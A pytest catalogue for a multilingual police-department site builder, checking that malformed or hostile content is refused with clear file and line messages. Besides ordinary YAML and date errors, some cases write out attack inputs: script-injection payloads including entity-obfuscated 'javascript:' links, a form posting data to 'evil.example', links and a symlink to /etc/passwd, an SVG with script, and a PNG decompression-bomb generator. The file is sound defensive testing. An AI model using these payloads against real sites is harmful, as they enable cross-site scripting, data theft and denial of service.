"""A catalogue of bad input a press officer can produce, each refused in plain words.

Every case changes one thing in a copy of the small `demo` department, runs the real
`cpsites check --dept demo` and asserts: exit status 2, the file (and line where there is one)
and the explanation in the message, no Python traceback. The same copy is then fed to
`cpsites build --dept demo`, which must print the same messages and also exit 2.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

# several folders have a conftest.py: load this one by path, not by the ambiguous module name
import importlib.util as _ilu  # noqa: E402
_spec = _ilu.spec_from_file_location("_conftest_workflow", __import__('pathlib').Path(__file__).resolve().parent / "conftest.py")
_cf = _ilu.module_from_spec(_spec)
_spec.loader.exec_module(_cf)
cpsites_together = _cf.cpsites_together

D = "sites/demo"
DOCS = f"{D}/docs"
POST = f"{DOCS}/news/2026-11-02-open-day"


@dataclass
class Case:
    id: str
    change: Callable[[Path], None]
    file: str          # the file the message must name
    line: int          # the line it must name (0: no line)
    says: str          # words the explanation must contain


def write(rel: str, text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode(encoding))
    return change


def write_bytes(rel: str, data: bytes) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        (root / rel).write_bytes(data)
    return change


def replace(rel: str, old: str, new: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / rel
        text = path.read_text("utf-8")
        assert old in text, f"{old!r} not in {rel}"
        path.write_text(text.replace(old, new, 1), "utf-8")
    return change


def rename(rel: str, new_name: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / rel
        path.rename(path.with_name(new_name))
    return change


def append(rel: str, text: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        with (root / rel).open("a", encoding="utf-8") as f:
            f.write(text)
    return change


def symlink(rel: str, target: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        (root / rel).symlink_to(target)
    return change


def delete(rel: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        (root / rel).unlink()
    return change


POST_RU = (
    "---\ntitle: Урок безопасности\ndate: 2026-11-10\nsummary: Инспектор встретился со школьниками.\n---\n\n"
    "Текст новости.\n"
)

OFFICER = f"{D}/officers/aysel-quliyeva.yml"
EVENT = f"{D}/events/2026-12-05-open-day.yml"
EPISODE = f"{D}/tv/2026-11-27-1.yml"
SECOND_OFFICER = """name:
  az: Rauf Həsənov
  ru: Рауф Гасанов
  en: Rauf Hasanov
rank:
  az: polis mayoru
  ru: майор полиции
  en: Police Major
role: sahə polis inspektoru
phone: "+994 24 275 00 12"
areas:
  - number: 2
    name: Şimal
    streets:
      - az: Nizami küçəsi
reception:
  hours: Cümə, 10:00–12:00
  place: 2 saylı sahə polis məntəqəsi
"""
ISSUE = """number: 1
date: 2026-12-01
languages: [az, ru]
pages: 2
stories:
  - news: 2026-11-02-open-day
    page: 1
    lead: true
  - news: 2026-11-30-market
    page: 2
"""

def png_bomb() -> bytes:
    """A tiny PNG that claims to be 60000 x 60000 pixels (3.6 gigapixels): a decompression bomb."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def truncate(rel: str, keep: float) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        data = (root / rel).read_bytes()
        (root / rel).write_bytes(data[: int(len(data) * keep)])
    return change


PHOTO = f"{DOCS}/images/building.jpg"

CASES = [
    # department.yml
    Case("dept-yaml-unclosed-quote", replace(f"{D}/department.yml", 'duty: "+994 24 275 00 00"', 'duty: "+994 24 275 00 00'),
         f"{D}/department.yml", 17, "the quote \" opened on this line is not closed"),
    Case("dept-yaml-bad-indent", replace(f"{D}/department.yml", "  ru: Образцовый район,", " ru: Образцовый район,"),
         f"{D}/department.yml", 14, "YAML is not valid"),
    Case("dept-yaml-tab", replace(f"{D}/department.yml", "  lat: 40.5", "\tlat: 40.5"),
         f"{D}/department.yml", 24, "YAML is not valid"),
    Case("dept-missing-field", replace(f"{D}/department.yml", "email: icma.demo@polis.example\n", ""),
         f"{D}/department.yml", 0, "`email` is missing"),
    Case("dept-wrong-type", replace(f"{D}/department.yml", "lat: 40.5", "lat: north"),
         f"{D}/department.yml", 24, "must be a number"),
    Case("dept-bad-phone", replace(f"{D}/department.yml", '"+994 24 275 00 00"', '"275-00-00"'),
         f"{D}/department.yml", 17, "+994 24 275 00 00"),
    Case("dept-typo-key", replace(f"{D}/department.yml", "address:", "adress:"),
         f"{D}/department.yml", 12, "did you mean `address:`"),
    Case("dept-slug-mismatch", replace(f"{D}/department.yml", "slug: demo", "slug: ganja"),
         f"{D}/department.yml", 2, "does not match the folder name"),
    Case("dept-bad-colour", replace(f"{D}/department.yml", 'accent: "#1f4e8c"', "accent: blue"),
         f"{D}/department.yml", 47, "#1f4e8c"),
    Case("dept-empty", write(f"{D}/department.yml", "\n\n"),
         f"{D}/department.yml", 0, "the file is empty"),
    Case("dept-not-utf8", write(f"{D}/department.yml", "slug: demo\naddress: Гянджа\n", "cp1251"),
         f"{D}/department.yml", 2, "not saved as UTF-8"),
    Case("dept-list-not-mapping", write(f"{D}/department.yml", "- slug: demo\n- kind: city\n"),
         f"{D}/department.yml", 1, "'key: value' lines"),
    Case("dept-script-in-yaml", replace(f"{D}/department.yml", "  az: Nümunə rayonu,", "  az: <script>alert(1)</script> Nümunə rayonu,"),
         f"{D}/department.yml", 13, "raw <script> is not allowed"),
    # news posts
    Case("news-no-date", replace(f"{POST}.ru.md", "date: 2026-11-02\n", ""),
         f"{POST}.ru.md", 0, "`date` is missing"),
    Case("news-impossible-month", replace(f"{POST}.ru.md", "date: 2026-11-02", "date: 2026-13-02"),
         f"{POST}.ru.md", 3, 'date` "2026-13-02" is not a valid date; write it as YYYY-MM-DD'),
    Case("news-impossible-day", replace(f"{POST}.az.md", "date: 2026-11-02", "date: 2026-02-30"),
         f"{POST}.az.md", 3, "is not a valid date"),
    Case("news-date-as-words", replace(f"{POST}.en.md", "date: 2026-11-02", "date: 2 November"),
         f"{POST}.en.md", 3, "is not a valid date"),
    Case("news-dates-differ", replace(f"{POST}.en.md", "date: 2026-11-02", "date: 2026-11-03"),
         f"{POST}.en.md", 3, "differs from the Azerbaijani version"),
    Case("news-typo-title", replace(f"{POST}.az.md", "title:", "tilte:"),
         f"{POST}.az.md", 2, "did you mean `title:`"),
    Case("news-unknown-tag", replace(f"{POST}.az.md", "tags: [open-day,", "tags: [opendays,"),
         f"{POST}.az.md", 5, 'unknown tag "opendays"'),
    Case("news-tags-not-list", replace(f"{POST}.az.md", "tags: [open-day, community-policing]", "tags: open-day"),
         f"{POST}.az.md", 5, "must be a list"),
    Case("news-empty-title", replace(f"{POST}.az.md", "title: Polisdə Açıq Qapı Günü keçirildi", 'title: ""'),
         f"{POST}.az.md", 2, "must not be empty"),
    Case("news-missing-image", replace(f"{DOCS}/news/2026-10-20-school-lesson.az.md", "images/building.jpg", "images/bulding.jpg"),
         f"{DOCS}/news/2026-10-20-school-lesson.az.md", 5, '"images/bulding.jpg" does not exist'),
    Case("news-image-without-alt", replace(f"{DOCS}/news/2026-10-20-school-lesson.az.md", "image_alt: Şöbənin binası\n", ""),
         f"{DOCS}/news/2026-10-20-school-lesson.az.md", 5, "`image_alt` is missing"),
    Case("news-no-front-matter", write(f"{POST}.az.md", "Noyabrın 2-də şöbədə Açıq Qapı Günü keçirildi.\n"),
         f"{POST}.az.md", 1, "no front matter"),
    Case("news-front-matter-colon", replace(f"{POST}.az.md", "summary: Şöbə qapılarını", "summary: Diqqət: şöbə qapılarını"),
         f"{POST}.az.md", 4, "YAML is not valid"),
    Case("news-no-az-version", write(f"{DOCS}/news/2026-11-10-lesson.ru.md", POST_RU),
         f"{DOCS}/news/2026-11-10-lesson.ru.md", 0, "no Azerbaijani version"),
    Case("news-no-language-suffix", rename(f"{POST}.en.md", "2026-11-02-open-day.md"),
         f"{POST}.md", 0, "needs a language before .md"),
    Case("news-unknown-language", rename(f"{POST}.en.md", "2026-11-02-open-day.tr.md"),
         f"{POST}.tr.md", 0, '"tr" is not one of the site\'s languages'),
    # plain pages
    Case("page-capital-suffix", rename(f"{DOCS}/about.ru.md", "about.RU.md"),
         f"{DOCS}/about.RU.md", 0, "small letters: rename it to about.ru.md"),
    Case("page-markdown-extension", rename(f"{DOCS}/about.ru.md", "about.ru.markdown"),
         f"{DOCS}/about.ru.markdown", 0, "end in .md"),
    Case("page-empty", write(f"{DOCS}/about.ru.md", ""),
         f"{DOCS}/about.ru.md", 0, "the file is empty"),
    Case("page-not-utf8", write(f"{DOCS}/about.ru.md", "# О нас\n\nОтдел участвует в программе.\n", "cp1251"),
         f"{DOCS}/about.ru.md", 1, "not saved as UTF-8"),
    Case("page-typo-front-matter", write(f"{DOCS}/about.en.md", "---\ntilte: About us\n---\n\n# About us\n\nText.\n"),
         f"{DOCS}/about.en.md", 2, "did you mean `title:`"),
    Case("page-only-front-matter", write(f"{DOCS}/about.en.md", "---\ntitle: About us\n---\n\n"),
         f"{DOCS}/about.en.md", 4, "no text after its front matter"),
    Case("page-without-az", write(f"{DOCS}/contacts.ru.md", "# Контакты\n\nТелефон дежурной части: 102.\n"),
         f"{DOCS}/contacts.ru.md", 0, "no Azerbaijani version contacts.az.md"),
    Case("link-to-missing-page", replace(f"{DOCS}/index.en.md", "[about us](about.md)", "[about us](abut.md)"),
         f"{DOCS}/index.en.md", 9, 'the link "abut.md" points to a page that does not exist; did you mean "about.md"?'),
    Case("link-from-news-to-missing-page", replace(f"{POST}.az.md", "(../about.md)", "(../contacts.md)"),
         f"{POST}.az.md", 8, 'the link "../contacts.md" points to a page that does not exist'),
    Case("link-outside-site", append(f"{DOCS}/about.en.md", "\nSee [the rules](../../../secret.md).\n"),
         f"{DOCS}/about.en.md", 7, "leads outside the site's pages"),
    Case("image-missing-in-text", replace(f"{DOCS}/about.ru.md", "images/building.jpg", "images/zdanie.jpg"),
         f"{DOCS}/about.ru.md", 5, 'the image "images/zdanie.jpg" does not exist'),
    Case("file-missing-in-link", append(f"{DOCS}/about.az.md", "\n[Broşür (PDF)](files/brochure.pdf)\n"),
         f"{DOCS}/about.az.md", 7, 'the file "files/brochure.pdf" does not exist'),
    # officers, events, TV episodes, newspaper issues (data files beside docs/)
    Case("officer-without-phone", replace(OFFICER, 'phone: "+994 24 275 00 11"\n', ""),
         OFFICER, 0, "`phone` is missing"),
    Case("officer-photo-missing", replace(OFFICER, "email:", "photo: images/officers/aysel.jpg\nemail:"),
         OFFICER, 14, '"images/officers/aysel.jpg" does not exist'),
    Case("officer-bad-email", replace(OFFICER, "sahe1.demo@polis.example", "sahe1.demo(at)polis"),
         OFFICER, 14, "is not an e-mail address"),
    Case("officer-street-in-two-areas", write(f"{D}/officers/rauf-hasanov.yml", SECOND_OFFICER),
         f"{D}/officers/rauf-hasanov.yml", 15, 'the street "Nizami küçəsi" is listed here under area 2'),
    Case("officer-file-name", rename(OFFICER, "Aysel Quliyeva.yml"),
         f"{D}/officers/Aysel Quliyeva.yml", 0, "small Latin letters"),
    Case("event-end-before-start", replace(EVENT, "end: 2026-12-05 14:00", "end: 2026-12-05 08:00"),
         EVENT, 7, "an event must end after it starts"),
    Case("event-unknown-kind", replace(EVENT, "kind: open-day", "kind: openday"),
         EVENT, 1, 'unknown kind "openday"'),
    Case("event-impossible-time", replace(EVENT, "start: 2026-12-05 10:00", "start: 2026-12-05 25:00"),
         EVENT, 6, "start"),
    Case("episode-date-not-a-date", replace(EPISODE, "date: 2026-11-27", "date: 27.11.2026"),
         EPISODE, 2, "is not a valid date"),
    Case("episode-video-not-youtube", append(EPISODE, "video:\n  url: https://video.example/watch/1\n"),
         EPISODE, 13, "is not a YouTube or Vimeo video address"),
    Case("issue-story-missing", write(f"{D}/newspaper/2026-12.yml", ISSUE),
         f"{D}/newspaper/2026-12.yml", 9, "2026-11-30-market"),
    Case("issue-odd-pages", write(f"{D}/newspaper/2026-12.yml", ISSUE.replace("pages: 2", "pages: 3")),
         f"{D}/newspaper/2026-12.yml", 4, "even number of pages"),
    # pictures, opened the way the build opens them
    Case("image-without-alt-text", replace(f"{DOCS}/about.en.md", "![The department's building]", "![]"),
         f"{DOCS}/about.en.md", 5, 'the picture "images/building.jpg" has no alternative text'),
    Case("image-html-without-alt", append(f"{DOCS}/about.ru.md", '\n<img src="images/building.jpg">\n'),
         f"{DOCS}/about.ru.md", 7, "has no alternative text"),
    Case("image-from-another-site", append(f"{DOCS}/about.en.md", "\n![Map](https://maps.example/ganja.png)\n"),
         f"{DOCS}/about.en.md", 7, "is not a file of this site's docs/ folder"),
    Case("home-page-missing", rename(f"{DOCS}/index.az.md", "home.az.md"),
         f"{DOCS}/index.az.md", 0, "the home page is missing"),
    Case("image-not-a-picture", write(PHOTO, "<html><body>Bu şəkil deyil</body></html>\n"),
         PHOTO, 0, "not a picture"),
    Case("image-truncated", truncate(PHOTO, 0.5), PHOTO, 0, "damaged or incomplete"),
    Case("image-decompression-bomb", write_bytes(f"{DOCS}/images/huge.png", png_bomb()),
         f"{DOCS}/images/huge.png", 0, "decompression bomb"),
    Case("image-svg-with-script", write(f"{DOCS}/images/logo.svg",
                                        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'),
         f"{DOCS}/images/logo.svg", 0, "contains a script"),
    # the content policy
    Case("html-script", append(f"{DOCS}/about.en.md", "\n<script>alert('hi')</script>\n"),
         f"{DOCS}/about.en.md", 7, "raw <script> is not allowed"),
    Case("html-iframe", append(f"{POST}.ru.md", '\n<iframe src="https://video.example/embed/1"></iframe>\n'),
         f"{POST}.ru.md", 10, "raw <iframe> is not allowed"),
    Case("html-object", append(f"{DOCS}/about.az.md", '\n<object data="movie.swf"></object>\n'),
         f"{DOCS}/about.az.md", 7, "raw <object> is not allowed"),
    Case("html-event-attribute", append(f"{DOCS}/about.en.md", '\n<img src="images/building.jpg" alt="x" onerror="alert(1)">\n'),
         f"{DOCS}/about.en.md", 7, "`onerror=` runs a script"),
    Case("javascript-link", append(f"{DOCS}/index.az.md", "\n[Bura basın](javascript:alert(1))\n"),
         f"{DOCS}/index.az.md", 11, "`javascript:` address"),
    Case("data-url-image", append(f"{DOCS}/about.ru.md", "\n![Фото](data:image/png;base64,iVBORw0KGgo=)\n"),
         f"{DOCS}/about.ru.md", 7, "`data:` address"),
    # the allow-list: what nh3 would strip silently is refused with file:line
    Case("html-link-attachment", append(f"{POST}.en.md", '\n<link rel="attachment" href="file:///etc/passwd">\n'),
         f"{POST}.en.md", 10, "raw <link> is not allowed"),
    Case("file-url-link", append(f"{DOCS}/about.en.md", "\nSee [the list](file:///etc/passwd).\n"),
         f"{DOCS}/about.en.md", 7, "`file:` address"),
    Case("html-form", append(f"{DOCS}/about.az.md", '\n<form action="https://evil.example/collect"><input name="phone"></form>\n'),
         f"{DOCS}/about.az.md", 7, "raw <form> is not allowed"),
    Case("html-style-remote-url", append(f"{DOCS}/about.ru.md", "\n<style>p { background: url(https://tracker.example/p.png) }</style>\n"),
         f"{DOCS}/about.ru.md", 7, "raw <style> is not allowed"),
    Case("attr-list-event", append(f"{DOCS}/about.en.md", '\nA paragraph.\n{: onmouseover="alert(1)" }\n'),
         f"{DOCS}/about.en.md", 8, "`onmouseover=` runs a script"),
    Case("attr-list-style", append(f"{DOCS}/about.en.md", '\n## Contacts {: style="color: red" }\n'),
         f"{DOCS}/about.en.md", 7, "may only set a class (.name) or an id (#name)"),
    Case("javascript-hidden-by-entity", append(f"{DOCS}/index.az.md", "\n[Bura basın](java&#115;cript:alert(1))\n"),
         f"{DOCS}/index.az.md", 11, "`javascript:` address"),
    Case("javascript-hidden-by-case-and-tab", append(f"{DOCS}/about.en.md", '\n<a href=" JaVa&#x09;ScRiPt:alert(1)">here</a>\n'),
         f"{DOCS}/about.en.md", 7, "`javascript:` address"),
    Case("html-svg-inline", append(f"{DOCS}/about.en.md", '\n<svg width="10" height="10"><circle r="5"/></svg>\n'),
         f"{DOCS}/about.en.md", 7, "raw <svg> is not allowed"),
    Case("html-unknown-tag", append(f"{DOCS}/about.en.md", "\n<marquee>Welcome!</marquee>\n"),
         f"{DOCS}/about.en.md", 7, "<marquee> is not allowed in content and would vanish"),
    Case("html-style-attribute", append(f"{DOCS}/about.en.md", '\n<p style="background:url(https://t.example/p.png)">Hi</p>\n'),
         f"{DOCS}/about.en.md", 7, "`style=` is not allowed on <p>"),
    Case("video-from-another-site", append(f"{DOCS}/about.en.md", '\n<video src="https://cdn.example/clip.mp4" controls></video>\n'),
         f"{DOCS}/about.en.md", 7, "from another site is not allowed"),
    # files stay inside the department's folder
    Case("symlink-out-of-the-folder", symlink(f"{DOCS}/images/passwd.jpg", "/etc/passwd"),
         f"{DOCS}/images/passwd.jpg", 0, "outside the department's folder"),
    Case("news-image-outside-docs", replace(f"{DOCS}/news/2026-10-20-school-lesson.az.md", "images/building.jpg", "../department.yml"),
         f"{DOCS}/news/2026-10-20-school-lesson.az.md", 5, "leads outside"),
    # single-line fields and invisible characters
    Case("phone-with-line-break", replace(OFFICER, 'phone: "+994 24 275 00 11"', 'phone: "+994 24 275 00 11\\nEND:VCARD"'),
         OFFICER, 13, "must be one line"),
    Case("title-with-line-break", replace(EVENT, "  en: Police Open Day", '  en: "Police\\nOpen Day"'),
         EVENT, 5, "must be one line"),
    Case("control-character-escaped", replace(EVENT, "  ru: День открытых дверей в полиции", '  ru: "День\\vоткрытых дверей"'),
         EVENT, 4, "invisible control character (U+000B)"),
    Case("control-character-raw", replace(f"{POST}.en.md", "Open", "Op\x0ben"),
         f"{POST}.en.md", 2, "invisible control character (U+000B)"),
]


def test_catalogue_is_large_and_distinct():
    assert len(CASES) >= 30
    assert len({c.id for c in CASES}) == len(CASES)


def problem_lines(output: str) -> list[str]:
    """The lines of an output that report a problem in a file (sites/... or docs/...)."""
    return [line for line in output.splitlines() if re.match(r"^(sites|docs)/[^:]+(:\d+)?: ", line)]


@pytest.fixture
def copy(pristine, tmp_path) -> Path:
    dest = tmp_path / "project"
    shutil.copytree(pristine, dest, ignore=shutil.ignore_patterns("site"))
    return dest


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_refused_clearly(case: Case, copy: Path):
    case.change(copy)
    # both read the same files and write nothing when refusing: run them side by side
    checked, built = cpsites_together(("check", "--dept", "demo"), ("build", "--dept", "demo", "--quiet"), cwd=copy)
    output = checked.stdout + checked.stderr
    assert checked.returncode == 2, output
    assert "Traceback" not in output
    where = f"{case.file}:{case.line}: " if case.line else f"{case.file}: "
    matching = [line for line in problem_lines(output) if line.startswith(where)]
    assert matching, f"no message starting with {where!r} in:\n{output}"
    assert any(case.says in line for line in matching), f"{case.says!r} not in:\n{output}"

    build_output = built.stdout + built.stderr
    assert built.returncode == 2, build_output
    assert "Traceback" not in build_output
    errors = [line for line in problem_lines(output) if ": warning: " not in line]
    assert problem_lines(build_output) == errors
    assert not (copy / "site").exists(), "a refused build must not write site/"


def test_plain_mkdocs_refuses_forbidden_html_too(copy: Path):
    """The policy lives in the content model, so even `mkdocs build` in a department folder refuses."""
    import os
    import subprocess
    import sys

    append(f"{DOCS}/about.en.md", '\n<iframe src="https://video.example/embed/1"></iframe>\n')(copy)
    done = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-q", "-d", str(copy / "out")],
                          cwd=copy / D, capture_output=True, text=True,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"}, timeout=300)
    assert done.returncode != 0
    assert "docs/about.en.md:7: raw <iframe> is not allowed" in done.stdout + done.stderr
    assert not (copy / "out" / "about" / "index.html").exists()
